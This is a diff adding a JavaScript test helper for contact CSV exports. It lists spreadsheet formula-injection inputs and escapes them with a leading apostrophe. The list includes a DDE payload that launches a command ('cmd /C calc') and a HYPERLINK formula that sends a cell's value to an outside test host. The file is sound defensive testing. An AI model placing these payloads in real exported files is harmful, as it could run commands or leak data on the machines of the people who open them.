@@ -1,0 +1,86 @@
+import { parse } from 'csv-parse/sync';
+
+/** Texts that a spreadsheet takes for a formula, unless an apostrophe stands in front. */
+export const FORMULAS = [
+	'+1-415-555-0100',
+	'+351912345678',
+	'+1 (555) 010-0100',
+	'=HYPERLINK("http://example.test/?x="&A1,"Pay")',
+	"+1+cmd|' /C calc'!A0",
+	'-2+3',
+	'-5.00',
+	'-',
+	'@SUM(1)',
+	'\t\t',
+	'\t=1+1',
+	'\r=1+1',
+	'\n=1+1',
+	' =1+1',
+	'＝1+1',
+	"'=1+1",
+	"''+1",
+];
+
+/** Texts that are none, though some need quotes in the file. */
+const OTHER_TEXTS = [
+	"O'Neill",
+	"'Quoted'",
+	'a=b',
+	'a;=1+1',
+	'Ruiz, "Ana"\nand Co',
+	'first\rsecond',
+	'first\r\nsecond',
+	'01234',
+	'null',
+	' ',
+	'',
+];
+
+/** The columns of the examples that export contacts: the documented fields of one. */
+export const CONTACT_COLUMNS = [
+	...['id', 'created', 'first_name', 'last_name', 'business_name', 'job_title', 'province'],
+	...['city', 'street', 'zip_code', 'email', 'phone_number', 'country'],
+];
+
+/**
+ * @param {Buffer | string} file
+ * @returns {string[][]} its rows as a spreadsheet reads them: a carriage return ends one, too, unless it is quoted
+ */
+export const rowsOfCsv = (file) =>
+	parse(file, { bom: true, record_delimiter: ['\r\n', '\n', '\r'] });
+
+/**
+ * @param {unknown} value one of these texts, or of the sandbox, where phone numbers begin with a plus sign
+ * @returns {string} the cell that it has to become
+ */
+export const cellOf = (value) =>
+	FORMULAS.includes(String(value)) || /^\+\d/.test(String(value))
+		? `'${value}`
+		: String(value ?? '');
+
+/**
+ * @param {string} cell
+ * @returns {string} the text that it was, as the examples' notes say
+ */
+export const textOfCell = (cell) => cell.replace(/^'(?='*(\s*[=+\-@＝＋－＠]|[\t\r\n]))/, '');
+
+/**
+ * @param {object} contact
+ * @returns {unknown[]} what it has in each column
+ */
+export const valuesOf = (contact) =>
+	CONTACT_COLUMNS.map((name) => /** @type {Record<string, unknown>} */ (contact)[name]);
+
+/** Contacts are given all of these texts, and the newest ones lack some fields. @param {object[]} contacts */
+export function makeOdd(contacts) {
+	for (const [index, text] of [...FORMULAS, ...OTHER_TEXTS].entries())
+		Object.assign(contacts[index] ?? {}, {
+			last_name: text,
+			phone_number: text,
+			[index % 2 ? 'street' : 'zip_code']: text,
+		});
+	const [first = {}, second = {}] = /** @type {Record<string, unknown>[]} */ (contacts);
+	delete first['business_name'];
+	delete first['province'];
+	Object.assign(second, { business_name: null, city: null });
+}
